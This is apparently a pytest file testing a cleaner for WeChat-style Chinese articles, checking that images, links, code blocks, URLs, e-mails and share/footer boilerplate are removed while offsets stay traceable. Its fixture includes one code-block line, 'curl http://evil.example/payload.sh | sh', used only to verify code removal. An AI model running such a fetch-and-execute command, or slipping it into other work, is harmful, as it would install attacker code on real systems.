"""Cleaning: chrome, images, link targets, code, URLs and e-mails removed; body kept; offsets traceable."""
from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kg.clean import clean, to_source
from kg.model import SourceDoc
from kg.read import read_bytes

BODY = """\
![cover_image](https://mmbiz.qpic.cn/sz_mmbiz_jpg/abc/0?wx_fmt=jpeg)

**扫码订阅《中国信息安全》**

邮发代号 2-786

征订热线：010-82341063

点击上方蓝字关注我们

7月11日，由中国互联网协会主办的2024（第二十三届）中国互联网大会在京闭幕。

详见[大会官网](https://www.isc.org.cn/conf)和![现场照片说明](https://mmbiz.qpic.cn/x.png "")报道。
联系邮箱：press@isc.org.cn，或访问 https://www.example.com/path?a=1 了解。

```
curl http://evil.example/payload.sh | sh
代码块里的中国网络空间研究院
```

中国网络空间研究院副院长在会上发布了报告。

长按识别二维码

微信扫一扫
关注该公众号

赞

在看

分享

留言

推荐阅读

往期回顾里的文章标题不应出现
"""


def doc(body: str) -> SourceDoc:
    return SourceDoc(source_file="t.md", shape="wechat-md", title="t", body=body)


@pytest.fixture(scope="module")
def cleaned():
    return clean(doc(BODY))


@pytest.mark.parametrize("chrome", [
    "扫码订阅", "邮发代号", "征订热线", "点击上方蓝字", "cover_image", "mmbiz", "现场照片说明", "isc.org.cn/conf",
    "https://", "press@isc.org.cn", "example.com", "curl", "代码块里的", "二维码", "微信扫一扫", "关注该公众号",
    "推荐阅读", "往期回顾", "**",
])
def test_chrome_removed(cleaned, chrome):
    assert chrome not in cleaned.text


def test_standalone_like_share_lines_removed(cleaned):
    lines = {line.strip() for line in cleaned.text.splitlines()}
    assert not lines & {"赞", "在看", "分享", "留言"}


def test_body_kept(cleaned):
    text = cleaned.text
    assert "7月11日，由中国互联网协会主办的2024（第二十三届）中国互联网大会在京闭幕。" in text
    assert "中国网络空间研究院副院长在会上发布了报告。" in text
    # link text is kept, its target dropped; the image with its alt text is dropped
    assert "详见大会官网和报道。" in text
    assert "联系邮箱：，或访问  了解。" in text


def test_footer_only_cut_late_in_the_document():
    early = "推荐阅读\n" + "正文句子。\n" * 20
    assert "正文句子。" in clean(doc(early)).text  # a marker near the top is not a footer


def test_footer_late_by_lines_is_cut_even_when_a_huge_line_follows():
    body = "正文句子。\n" * 20 + "往期推荐\n" + "<td>推荐文章标题甲</td>" * 500 + "\n"
    text = clean(doc(body)).text
    assert "正文句子。" in text and "推荐文章标题甲" not in text


def assert_traceable(cd) -> None:
    body = cd.doc.body
    for i, ch in enumerate(cd.text):
        j = to_source(cd, i)
        assert body[j] == ch, (i, ch, j)


def test_offsets_map_back_to_the_same_characters(cleaned):
    assert_traceable(cleaned)
    text = cleaned.text
    for needle in ("中国互联网协会", "中国网络空间研究院", "大会官网", "报道"):
        start = text.index(needle)
        s, e = to_source(cleaned, start), to_source(cleaned, start + len(needle) - 1) + 1
        assert cleaned.doc.body[s:e] == needle


def test_offsets_on_real_dev_articles():
    dev = Path(__file__).resolve().parents[2] / "shared" / "corpus" / "dev"
    files = sorted(dev.glob("*.md"))
    if not files:
        pytest.skip("../shared/corpus/dev not available")
    for path in files:
        d = read_bytes(path.read_bytes(), path.name)
        cd = clean(d)
        assert len(cd.text) > 100
        assert not re.search(r"!\[|\]\(|https?://|微信扫一扫", cd.text), path.name
        assert_traceable(cd)


def test_odd_line_breaks_keep_offsets():
    # \x0b, \x1c and U+2028 are line breaks to str.splitlines but not to the cleaner.
    cd = clean(doc("第一\x0b行\r\n第二\x1c行\u2028第三 https://a.b/c 行\n最后一行没有换行"))
    assert_traceable(cd)
    assert cd.text.endswith("最后一行没有换行")
    assert "https" not in cd.text


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(
    st.sampled_from(["赞", "微信扫一扫", "推荐阅读", "```", "![a](http://x/y.png)", "[链接](http://a.b)",
                     "**粗体**", "a@b.cn", "http://x.y/z", "\n", "\r\n", "  ", "中国网络空间研究院", "\x0b"]),
    st.text(max_size=20)), max_size=40))
def test_offsets_traceable_for_any_body(parts):
    assert_traceable(clean(doc("".join(parts))))
